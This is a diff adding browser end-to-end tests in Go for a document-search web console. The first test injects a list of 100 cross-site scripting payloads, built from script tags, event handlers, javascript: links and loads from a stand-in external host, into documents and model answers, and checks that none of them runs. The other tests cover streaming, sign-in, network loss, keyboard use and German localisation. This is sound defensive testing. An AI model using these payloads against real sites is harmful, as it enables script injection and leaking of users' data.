@@ -1,0 +1,276 @@
+package e2e_test
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+	"github.com/chromedp/chromedp/kb"
+
+	"github.com/cairn-rag/cairn/internal/model/modeltest"
+)
+
+// payloads returns a hundred texts that run a script, or ask another site, in pages that
+// take text for HTML: each way to do it in each place where a text may stand.
+func payloads() []string {
+	ways := []string{
+		`<script>window.ran=1</script>`, `<script src=//203.0.113.1/x.js></script>`, `<img src=x onerror=window.ran=1>`, `<img src=http://203.0.113.1/leak.png>`,
+		`<svg onload=window.ran=1>`, `<svg><script>window.ran=1</script></svg>`, `<body onload=window.ran=1>`, `<iframe src="javascript:parent.ran=1"></iframe>`,
+		`<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`, `<a href="javascript:window.ran=1">a</a>`, `<a href="data:text/html,<script>1</script>">a</a>`,
+		`<style>@import "http://203.0.113.1/x.css"</style>`, `<link rel=stylesheet href=http://203.0.113.1/x.css>`, `<meta http-equiv=refresh content="0;url=http://203.0.113.1/">`,
+		`<video src=x onerror=window.ran=1></video>`, `<details open ontoggle=window.ran=1>a</details>`, `<input autofocus onfocus=window.ran=1>`, `<math><mi xlink:href="javascript:window.ran=1">a</mi></math>`,
+		`<object data="javascript:window.ran=1"></object>`, `<form action=http://203.0.113.1/><button>a</button></form>`, `<base href=http://203.0.113.1/>`, `[a](javascript:window.ran=1)`,
+		`![a](http://203.0.113.1/leak.png)`, `<citation id="x" onclick="window.ran=1">[1]</citation>`, `<web_citation url="javascript:window.ran=1" title="a">[1]</web_citation>`,
+	}
+	var all []string
+	for _, place := range []string{"%s", `">%s`, `'-->%s`, `</title></textarea></script>%s`} {
+		for _, way := range ways {
+			all = append(all, fmt.Sprintf(place, way))
+		}
+	}
+	return all
+}
+
+// TestConsoleRunsNoPayload has hostile names, tags, texts and an answer in every page.
+func TestConsoleRunsNoPayload(t *testing.T) {
+	t.Parallel()
+	page := browser(t)
+	m := standIn(t, modeltest.Options{})
+	s := start(t, at(m.URL())...)
+	all := payloads()
+	if len(all) != 100 {
+		t.Fatalf("%d payloads", len(all))
+	}
+	id := ""
+	for i, payload := range all {
+		var made struct{ ID string }
+		s.call(t, "POST", "/workspaces/default/webhooks/document?projectId=default", map[string]any{
+			"name": strings.ReplaceAll(payload, "/", "∕"), "externalId": fmt.Sprintf("%d %s", i, payload), "tags": []string{payload}, "content": map[string]string{"text": "# " + payload + "\n\n" + payload},
+		}, &made)
+		id = made.ID
+	}
+	s.awaitPublished(t, len(all))
+	m.ScriptChat(modeltest.Text(strings.Join(all, "\n\n")))
+	asked, thrown := trafficOf(t, page), thrownIn(page)
+	s.signInto(t, page)
+	clean := func(where string) {
+		t.Helper()
+		const state = `({ran: window.ran ?? 0, made: document.querySelectorAll("main script, main iframe, main style, main link, main meta, main object, main base, main math, body img:not([src^='/']), a[href^='javascript'], a[href^='data']").length})`
+		if got := evaluate[map[string]int](t, page, state); got["ran"] != 0 || got["made"] != 0 {
+			t.Errorf("%s made of a payload %v", where, got)
+		}
+	}
+	askOnPage(t, page, all[2])
+	awaitPage(t, page, answersOnPage+" === 1")
+	clean("the answer")
+	for path, there := range map[string]string{
+		"/documents": `document.querySelectorAll("tbody tr").length === 100`, "/documents/" + id: `!!document.querySelector(".passages li")`,
+		"/runs": `document.querySelectorAll("tbody tr").length > 50`, "/ask": `document.querySelectorAll(".conversations li").length === 1`,
+	} {
+		open(t, page, s.ends.API+path)
+		awaitPage(t, page, there)
+		clean(path)
+	}
+	if len(*thrown) > 0 {
+		t.Errorf("the pages threw %s", *thrown)
+	}
+	asked.wantOnly(t, s.ends.API)
+}
+
+// TestConsoleShowsALongAnswer streams an answer of 20,000 characters with headings, tables
+// and code, and compares the page with the same page after a reload.
+func TestConsoleShowsALongAnswer(t *testing.T) {
+	t.Parallel()
+	page := browser(t)
+	m := standIn(t, modeltest.Options{})
+	s := start(t, at(m.URL())...)
+	s.publish(t, "lights", "The northern pier has a lighthouse.")
+	part := "## Piers\n\nThe **northern** pier has a lighthouse, and `code` in it.\n\n| Pier | Has |\n| --- | --- |\n| north | light |\n| south | horn |\n\n- one\n- two\n\n```\nlet there = light;\n```\n\n"
+	text := strings.TrimSpace(strings.Repeat(part, 20_000/len(part)+1))
+	m.ScriptChat(modeltest.Reply{Text: text, TokenDelay: time.Millisecond})
+	s.signInto(t, page)
+	askOnPage(t, page, "What is on the piers?")
+	awaitPage(t, page, answersOnPage+" === 1")
+	if stored := s.lastAnswer(t); stored != text {
+		t.Errorf("stored are %d characters of %d", len(stored), len(text))
+	}
+	const shown = `document.querySelector(".words").innerHTML`
+	streamed := evaluate[string](t, page, shown)
+	do(t, page, chromedp.Reload())
+	awaitPage(t, page, answersOnPage+" === 1")
+	wantSame(t, "the streamed answer", streamed, evaluate[string](t, page, shown))
+	if tables := evaluate[int](t, page, `document.querySelectorAll(".words table").length`); tables != strings.Count(text, "| Pier |") {
+		t.Errorf("%d tables", tables)
+	}
+}
+
+// TestConsoleSignsInAgain revokes the key of a session. The next action asks for a key over
+// the page, which is there again after it.
+func TestConsoleSignsInAgain(t *testing.T) {
+	t.Parallel()
+	page := browser(t)
+	s := start(t)
+	s.publish(t, "lights", "The northern pier has a lighthouse.")
+	var key struct{ ID, Key string }
+	s.call(t, "POST", "/workspaces/default/keys", map[string]any{"name": "short", "scopes": []string{"read"}}, &key)
+	open(t, page, s.ends.API+"/documents")
+	do(t, page, chromedp.SendKeys(`dialog input`, key.Key+kb.Enter, chromedp.ByQuery))
+	awaitPage(t, page, rowsOnPage+` === "lights"`)
+	if status := s.call(t, "DELETE", "/workspaces/default/keys/"+key.ID, nil, nil); status != http.StatusNoContent {
+		t.Fatalf("revoke the key: %d", status)
+	}
+	press(t, page, "Name")
+	awaitPage(t, page, `document.querySelector("dialog.signin p")?.textContent.startsWith("Your session has ended")`)
+	do(t, page, chromedp.SendKeys(`dialog input`, "wrong"+kb.Enter, chromedp.ByQuery))
+	awaitPage(t, page, `document.querySelector("dialog.signin .wrong").textContent !== ""`)
+	do(t, page, chromedp.SendKeys(`dialog input`, s.key+kb.Enter, chromedp.ByQuery))
+	awaitPage(t, page, `!document.querySelector("dialog") && location.pathname === "/documents" && `+rowsOnPage+` === "lights"`)
+}
+
+// TestConsoleGoesOnWithoutNetwork takes the network away in the middle of an answer, until
+// the answer is complete.
+func TestConsoleGoesOnWithoutNetwork(t *testing.T) {
+	t.Parallel()
+	page := browser(t)
+	text := strings.TrimSpace(strings.Repeat("word ", 500))
+	m := standIn(t, modeltest.Options{})
+	s := start(t, at(m.URL())...)
+	s.publish(t, "lights", "The northern pier has a lighthouse.")
+	m.ScriptChat(modeltest.Reply{Text: text, TokenDelay: 20 * time.Millisecond})
+	between := newWire(t, strings.TrimPrefix(s.ends.API, "http://"))
+	open(t, page, "http://"+between.Addr().String()+"/")
+	do(t, page, chromedp.SendKeys(`dialog input`, s.key+kb.Enter, chromedp.ByQuery))
+	awaitPage(t, page, `!!document.querySelector("textarea.question")`)
+	askOnPage(t, page, "What is on the northern pier?")
+	awaitPage(t, page, `(document.querySelector(".words")?.textContent.match(/word/g) ?? []).length > 20`)
+	between.cut(true)
+	awaitPage(t, page, `!!document.querySelector(".lost:not([hidden])")`)
+	await(t, time.Minute, "the run ends without the page", func(context.Context) error {
+		var list struct{ Data []struct{ Status string } }
+		s.call(t, "GET", "/workspaces/default/runs?kind=query", nil, &list)
+		if list.Data[0].Status != "completed" {
+			return fmt.Errorf("it is %s", list.Data[0].Status)
+		}
+		return nil
+	})
+	between.cut(false)
+	awaitPage(t, page, answersOnPage+" === 1")
+	wantSame(t, "the answer", evaluate[string](t, page, `document.querySelector(".words").textContent`), text)
+}
+
+// wire passes connections on to a server, until it is cut.
+type wire struct {
+	net.Listener
+	mu    sync.Mutex
+	isCut bool
+	open  []net.Conn
+}
+
+func newWire(t *testing.T, server string) *wire {
+	t.Helper()
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := &wire{Listener: listener}
+	t.Cleanup(func() {
+		_ = listener.Close()
+		w.cut(true)
+	})
+	go func() {
+		for {
+			from, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			to, err := net.Dial("tcp", server)
+			if err != nil || !w.keep(from, to) {
+				_ = from.Close()
+				continue
+			}
+			go func() { _, _ = io.Copy(to, from) }()
+			go func() { _, _ = io.Copy(from, to) }()
+		}
+	}()
+	return w
+}
+
+// keep notes an open connection; it reports false if the wire is cut.
+func (w *wire) keep(pair ...net.Conn) bool {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	w.open = append(w.open, pair...)
+	return !w.isCut
+}
+
+// cut ends all connections and refuses new ones, or accepts them again.
+func (w *wire) cut(off bool) {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	w.isCut = off
+	for _, one := range w.open {
+		_ = one.Close()
+	}
+	w.open = nil
+}
+
+// TestConsoleByKeyboard asks, opens a citation and walks through documents without a mouse.
+func TestConsoleByKeyboard(t *testing.T) {
+	t.Parallel()
+	page := browser(t)
+	s := start(t)
+	s.publish(t, "lights", "The northern pier has a lighthouse. The southern pier has a foghorn.")
+	s.publish(t, "cranes", "The eastern pier has a crane.")
+	open(t, page, s.ends.API+"/documents")
+	awaitPage(t, page, `document.activeElement?.name === "key"`)
+	do(t, page, chromedp.KeyEvent(s.key+kb.Enter))
+	awaitPage(t, page, rowsOnPage+`.split("|").length === 2`)
+	do(t, page, chromedp.KeyEvent("jj"), chromedp.KeyEvent(kb.Enter))
+	awaitPage(t, page, `document.querySelector("h1")?.textContent === "lights"`)
+	do(t, page, chromedp.KeyEvent("?"))
+	awaitPage(t, page, `!!document.querySelector("dialog .keys")`)
+	do(t, page, chromedp.KeyEvent(kb.Escape), chromedp.KeyEvent("/"))
+	awaitPage(t, page, `!document.querySelector("dialog") && document.activeElement?.name === "question"`)
+	do(t, page, chromedp.KeyEvent("What is on the northern pier?"+kb.Enter))
+	awaitPage(t, page, answersOnPage+` === 1 && !!document.querySelector(".citation")`)
+	s.tabTo(t, page, `document.activeElement.matches(".citation")`)
+	do(t, page, chromedp.KeyEvent(kb.Enter))
+	awaitPage(t, page, `document.activeElement.matches(".panel h2") && document.querySelector(".panel").textContent.includes("lighthouse")`)
+	do(t, page, chromedp.KeyEvent(kb.Escape))
+	awaitPage(t, page, `document.querySelector(".panel").hidden && document.activeElement.matches(".citation")`)
+}
+
+// tabTo presses Shift+Tab, as from the question upwards, until an element has the focus.
+func (s *server) tabTo(t *testing.T, page context.Context, there string) {
+	t.Helper()
+	for range 60 {
+		if evaluate[bool](t, page, there) {
+			return
+		}
+		do(t, page, chromedp.KeyEvent(kb.Tab, chromedp.KeyModifiers(8)))
+	}
+	t.Fatalf("never %s", there)
+}
+
+// TestConsoleInGerman shows every page in German.
+func TestConsoleInGerman(t *testing.T) {
+	t.Parallel()
+	page := browser(t)
+	s := start(t)
+	s.publish(t, "lichter", "Der nördliche Pier hat einen Leuchtturm.")
+	s.signInto(t, page)
+	do(t, page, chromedp.Evaluate(`localStorage.setItem("cairn.language", "de")`, nil), chromedp.Reload())
+	awaitPage(t, page, `document.documentElement.lang === "de" && document.querySelector("nav").textContent.includes("Dokumente")`)
+	for path, heading := range map[string]string{"/documents": "Dokumente", "/runs": "Läufe", "/imports": "Importe", "/projects": "Projekte", "/operations": "Betrieb", "/usage": "Nutzung"} {
+		open(t, page, s.ends.API+path)
+		awaitPage(t, page, fmt.Sprintf(`document.querySelector("h1")?.textContent.includes(%q)`, heading))
+	}
+	wantLooks(t, page)
+}
